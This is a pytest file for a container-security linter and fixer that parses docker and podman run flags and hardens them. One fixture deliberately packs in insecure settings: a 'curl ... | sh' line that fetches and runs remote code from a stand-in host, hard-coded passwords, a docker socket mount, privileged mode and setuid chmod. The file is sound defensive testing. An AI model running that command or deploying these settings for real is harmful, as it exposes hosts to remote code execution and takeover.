"""Command lines that start containers."""

from __future__ import annotations

import pytest
from capdrop import rulebook
from capdrop.dialects.context import Context
from capdrop.dialects.docker_run import read
from capdrop.discover import kind_named
from capdrop.engine import analyse
from capdrop.finding import Safety
from capdrop.fixer import Workbench, fix
from capdrop.model.container import Container, plain
from capdrop.model.mount import Mount
from capdrop.model.variable import Variable
from capdrop.source import Source


def subjects(text: str, path: str = "run.sh") -> list[object]:
    return list(read(Source(path, text), Context()).subjects)


def container(text: str, path: str = "run.sh") -> Container:
    return next(subject for subject in subjects(text, path) if isinstance(subject, Container))


@pytest.mark.parametrize(
    ("line", "fact", "value"),
    [
        ("docker run --privileged a", "privileged", True),
        ("docker run --privileged=false a", "privileged", False),
        ("docker run a --privileged", "privileged", "absent"),
        ("docker run -it --rm --privileged a", "privileged", True),
        ("sudo docker --context x run --privileged a", "privileged", True),
        ("podman container create --privileged a", "privileged", True),
        ("/usr/bin/docker run --privileged a", "privileged", True),
        ("if true; then docker run --privileged a; fi", "privileged", True),
        ("docker run -u root a", "user", "root"),
        ("docker run --user=0:0 a", "user", "0:0"),
        ("docker run -uroot a", "user", "root"),
        ("docker run -itu root a", "user", "root"),
        ('docker run -u "$(id -u)" a', "user", "unknown"),
        ("docker run a", "user", "unknown"),
        ("docker run --cap-add=SYS_ADMIN --cap-add NET_RAW a", "capabilities_added", ("SYS_ADMIN", "NET_RAW")),
        ("docker run --net host a", "host_network", True),
        ("docker run --network=bridge a", "host_network", False),
        ("docker run --pid=host a", "host_pid", True),
        ("docker run --security-opt seccomp=unconfined a", "seccomp", "unconfined"),
        ("docker run --security-opt=apparmor:unconfined a", "apparmor", "unconfined"),
        ("docker run --security-opt no-new-privileges a", "no_new_privileges", True),
        ("docker run --read-only a", "read_only_root", True),
        ("docker run --device /dev/sda a", "devices", ("/dev/sda",)),
        ("docker run --unknown-option value --privileged a", "privileged", True),
    ],
)
def test_facts(line: str, fact: str, value: object) -> None:
    assert plain(container(line + "\n").fact(fact)) == value


@pytest.mark.parametrize("line", ["docker ps", "echo docker run --privileged a", "docker exec -u root a sh", "# docker run --privileged a"])
def test_other_lines_start_nothing(line: str) -> None:
    assert not any(isinstance(subject, Container) for subject in subjects(line + "\n"))


@pytest.mark.parametrize(
    ("option", "host", "target", "read_only"),
    [
        ("-v /etc:/x", "/etc", "/x", False),
        ("-v /etc/:/x:ro", "/etc", "/x", True),
        ("--volume=/etc:/x:ro,z", "/etc", "/x", True),
        ("--mount type=bind,source=/etc,target=/x,readonly", "/etc", "/x", True),
        ("--mount=type=bind,src=/etc,dst=/x", "/etc", "/x", False),
        ("-v $HOME/a:/x", "unknown", "/x", False),
    ],
)
def test_mounts(option: str, host: str, target: str, read_only: bool) -> None:
    mount = next(subject for subject in subjects(f"docker run {option} a\n") if isinstance(subject, Mount))
    assert (plain(mount.host_path), mount.target.text, plain(mount.read_only)) == (host, target, read_only)


def test_named_volumes_are_no_mounts_of_the_host() -> None:
    assert not any(isinstance(subject, Mount) for subject in subjects("docker run -v data:/x --mount type=volume,source=d,target=/y a\n"))


def test_makefile_recipes() -> None:
    text = "run: build\n\t@docker run --rm -e A=$$HOME \\\n\t  --privileged -u $(UID) a:$(TAG)\nother:\n\techo docker\n"
    found = container(text, "Makefile")
    privileged = found.fact("privileged")
    assert text[privileged.span.start : privileged.span.end] == "--privileged"
    assert found.fact("user").is_unknown
    variable = next(subject for subject in subjects(text, "Makefile") if isinstance(subject, Variable))
    assert (variable.name, variable.value.state) == ("A", "unknown")


SCRIPT = """\
#!/bin/sh
# a comment --privileged
docker run -d --name web --privileged \\
  --cap-add=SYS_ADMIN --cap-add NET_ADMIN \\
  -v /var/run/docker.sock:/var/run/docker.sock -v /etc:/host/etc \\
  --security-opt seccomp=unconfined -p 80:80 \\
  nginx:1.29
"""

FIXED = """\
#!/bin/sh
# a comment --privileged
docker run -d --name web -v /etc:/host/etc:ro -p 80:80 \\
  nginx:1.29
"""


def test_fixes_drop_and_add_flags() -> None:
    book = rulebook.load()
    book.select(book.of_profile("default"))
    source = Source("run.sh", SCRIPT)
    result = fix(source, Workbench(kind_named("docker-run"), book, Context()), Safety.UNSAFE)
    assert result.source.text == FIXED
    assert result.left == []


@pytest.mark.parametrize(
    ("line", "rule", "fixed"),
    [
        ("podman run --rm k8s.gcr.io/pause:3.9", "deprecated-registry", "podman run --rm registry.k8s.io/pause:3.9"),
        ("docker run -u 0 a/b:1.2", "root-user", "docker run -u 65532:65532 a/b:1.2"),
        ("docker run -itu root a/b:1.2", "root-user", "docker run -itu 65532:65532 a/b:1.2"),
        ("docker run --read-only=false a/b:1.2", "writable-root-filesystem", "docker run --read-only a/b:1.2"),
        (
            "docker run -d \\\n    --name a \\\n    a/b:1.2",
            "writable-root-filesystem",
            "docker run -d \\\n    --read-only \\\n    --name a \\\n    a/b:1.2",
        ),
        (
            "docker run -d \\\r\n\t--name a \\\r\n\ta/b:1.2\r\n",
            "capabilities-not-dropped",
            "docker run -d \\\r\n\t--cap-drop ALL \\\r\n\t--name a \\\r\n\ta/b:1.2\r\n",
        ),
        ("docker run \\\n a/b:1.2", "writable-root-filesystem", "docker run --read-only \\\n a/b:1.2"),
    ],
)
def test_an_option_or_image_that_is_given_is_written_anew(line: str, rule: str, fixed: str) -> None:
    book = rulebook.load()
    book.select({rule})
    result = fix(Source("run.sh", line), Workbench(kind_named("docker-run"), book, Context()), Safety.UNSAFE)
    assert (result.source.text, result.left) == (fixed, [])


def test_at_least_twenty_rules_judge_command_lines() -> None:
    book = rulebook.load()
    text = """\
docker run --privileged --cap-add=SYS_ADMIN --cap-add=NET_RAW --net=host --pid=host --ipc=host --device=/dev/sda -u root \\
  --security-opt seccomp=unconfined --security-opt apparmor=unconfined --security-opt label=disable \\
  -v /var/run/docker.sock:/var/run/docker.sock -v /etc:/a -v /home:/b:ro -v /srv/x:/c:ro,rshared \\
  -e DB_PASSWORD=Zt4-kk20-PPx7 -e POSTGRES_PASSWORD=postgres -e NODE_TLS_REJECT_UNAUTHORIZED=0 -e U=postgres://a:Vv6-bb13-Ke@db/x \\
  nginx sh -c 'curl -k http://x.example.com/i.sh | sh; sudo chmod 777 /x; chmod u+s /y'
docker run nginx:latest
docker run nginx:1.29
"""
    analysis = analyse(Source("run.sh", text), kind_named("docker-run"), book, Context())
    assert analysis.broken == []
    assert len({finding.rule for finding in analysis.findings}) >= 20
